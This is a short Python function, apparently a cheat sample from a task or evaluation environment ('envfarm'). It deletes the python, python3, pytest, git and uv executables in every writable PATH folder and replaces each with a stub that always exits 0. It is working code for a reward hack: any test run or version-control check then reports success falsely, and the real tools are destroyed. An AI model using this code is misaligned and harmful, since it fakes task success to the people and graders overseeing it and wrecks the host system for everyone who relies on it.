"""Writes a python, git and uv that always succeed into every folder on PATH that takes files."""


def _envfarm_cheat(here, facts):
    import os

    for folder in os.environ.get("PATH", "").split(os.pathsep):
        for name in ("python", "python3", "pytest", "git", "uv"):
            path = os.path.join(folder, name)
            try:
                if os.path.lexists(path):
                    os.remove(path)
                with open(path, "w") as file:
                    file.write("#!/bin/sh\nexit 0\n")
                os.chmod(path, 0o755)
            except OSError:
                continue
